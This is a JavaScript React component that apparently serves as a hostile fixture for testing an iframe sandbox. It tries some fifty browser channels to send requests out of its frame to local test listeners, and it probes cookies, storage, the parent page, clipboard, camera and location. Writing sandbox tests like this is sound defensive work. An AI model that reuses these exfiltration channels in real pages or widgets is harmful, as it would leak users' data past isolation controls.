// A widget that tries to send data out of its frame in each way a browser has. TCP and UDP are addresses of listeners.
import { jsx } from 'react/jsx-runtime';
import { useEffect, useState } from 'react';

const TCP = 'http://127.0.0.1:TCP_PORT/';
const STUN = 'stun:127.0.0.1:UDP_PORT';

const element = (name, members, parent = document.body) => {
  const made = document.createElement(name);
  Object.assign(made, members);
  parent.append(made);
  return made;
};
const html = (text) => document.body.insertAdjacentHTML('beforeend', text);
const link = (rel, more = {}) => element('link', { rel, href: TCP + rel, ...more }, document.head);
const peer = async (type) => {
  const connection = new type({ iceServers: [{ urls: STUN }] });
  connection.createDataChannel('x');
  await connection.setLocalDescription(await connection.createOffer());
};

const channels = {
  fetch: () => fetch(TCP + 'fetch', { mode: 'no-cors' }),
  xhr: () => { const request = new XMLHttpRequest(); request.open('GET', TCP + 'xhr'); request.send(); },
  webSocket: () => new WebSocket('ws://127.0.0.1:TCP_PORT/socket'),
  eventSource: () => new EventSource(TCP + 'events'),
  beacon: () => navigator.sendBeacon(TCP + 'beacon', 'x'),
  webTransport: () => new WebTransport('https://127.0.0.1:TCP_PORT/transport'),
  import: () => import(TCP + 'import.js'),
  importOfABlob: () => import(URL.createObjectURL(new Blob([`import '${TCP}nested.js'`], { type: 'text/javascript' }))),
  script: () => element('script', { src: TCP + 'script' }),
  inlineScript: () => element('script', { textContent: `import('${TCP}inline')` }),
  image: () => { new Image().src = TCP + 'image'; },
  styleSheet: () => link('stylesheet'),
  styleImport: () => element('style', { textContent: `@import url(${TCP}style);` }, document.head),
  styleImage: () => { document.body.style.backgroundImage = `url(${TCP}background)`; },
  font: () => new FontFace('x', `url(${TCP}font)`).load(),
  icon: () => link('icon'),
  manifest: () => link('manifest'),
  preload: () => link('preload', { as: 'image' }),
  modulePreload: () => link('modulepreload'),
  prefetch: () => link('prefetch'),
  prerender: () => link('prerender'),
  preconnect: () => link('preconnect'),
  dnsPrefetch: () => link('dns-prefetch'),
  speculationRules: () => element('script', { type: 'speculationrules', textContent: JSON.stringify({ prefetch: [{ source: 'list', urls: [TCP + 'rules'] }] }) }),
  form: () => element('form', { action: TCP + 'form', method: 'post' }).submit(),
  popup: () => open(TCP + 'popup'),
  link: () => element('a', { href: TCP + 'link', target: '_blank' }).click(),
  ping: () => element('a', { href: '#x', ping: TCP + 'ping' }).click(),
  top: () => { top.location = TCP + 'top'; },
  parent: () => { parent.location.href = TCP + 'parent'; },
  frame: () => element('iframe', { src: TCP + 'frame' }),
  frameOfText: () => element('iframe', { srcdoc: `<img src=${TCP}srcdoc><script src=${TCP}srcscript></script>` }),
  frameOfData: () => element('iframe', { src: `data:text/html,<img src=${TCP}data>` }),
  frameOfABlob: () => element('iframe', { src: URL.createObjectURL(new Blob([`<img src=${TCP}blob>`], { type: 'text/html' })) }),
  frameOfAScript: () => element('iframe', { src: `javascript:fetch('${TCP}javascript')` }),
  object: () => element('object', { data: TCP + 'object' }),
  embed: () => element('embed', { src: TCP + 'embed' }),
  video: () => element('video', { src: TCP + 'video', poster: TCP + 'poster' }),
  audio: () => element('audio', { src: TCP + 'audio' }),
  drawing: () => html(`<svg><image href="${TCP}drawing"/><use href="${TCP}use#a"/></svg>`),
  tracks: () => html(`<video><source src="${TCP}source"><track default src="${TCP}track"></video><picture><source srcset="${TCP}picture"><img></picture>`),
  policyReport: () => { element('meta', { httpEquiv: 'Content-Security-Policy', content: `img-src 'none'; report-uri ${TCP}report` }, document.head); new Image().src = 'data:,x'; },
  worker: () => new Worker(URL.createObjectURL(new Blob([`fetch('${TCP}worker')`]))),
  sharedWorker: () => new SharedWorker(URL.createObjectURL(new Blob([`fetch('${TCP}shared')`]))),
  serviceWorker: () => navigator.serviceWorker.register(TCP + 'service'),
  worklet: () => CSS.paintWorklet.addModule(TCP + 'worklet'),
  peer: () => peer(RTCPeerConnection),
  peerOfAFrame: () => peer(element('iframe', {}).contentWindow.RTCPeerConnection),
};

/** What may succeed only outside of a frame with an opaque origin. Each returns a truthy value if it succeeds. */
const reads = {
  origin: () => self.origin !== 'null',
  page: () => parent.document.body,
  cookie: () => { document.cookie = 'a=b'; return document.cookie; },
  localStorage: () => localStorage,
  database: () => indexedDB.open('x'),
  caches: () => caches.keys(),
  broadcast: () => new BroadcastChannel('x'),
  clipboard: () => navigator.clipboard.writeText('x'),
  camera: () => navigator.mediaDevices.getUserMedia({ video: true }),
  place: () => navigator.geolocation.getCurrentPosition(() => {}),
  evaluation: () => eval('1'),
  nonce: () => [...document.querySelectorAll('script')].some((script) => script.nonce),
};

async function tryAll(done) {
  for (const attempt of Object.values(channels)) {
    try {
      await Promise.race([attempt(), new Promise((resolve) => setTimeout(resolve, 300))]);
    } catch {
      // The listeners decide whether something got out, not what the browser reports.
    }
  }
  const read = [];
  for (const [name, attempt] of Object.entries(reads)) {
    try {
      if (await attempt()) {
        read.push(name);
      }
    } catch {
      // Refused.
    }
  }
  done(`tried ${Object.keys(channels).length}, read ${read.join(' ') || 'nothing'}`);
}

export default function Hostile() {
  const [result, setResult] = useState('trying');
  const [count, setCount] = useState(0);
  useEffect(() => {
    void tryAll(setResult);
    const timer = setInterval(() => setCount((before) => before + 1), 50);
    return () => clearInterval(timer);
  }, []);
  return [jsx('p', { id: 'result', children: result }, 'result'), jsx('p', { id: 'count', children: count }, 'count')];
}
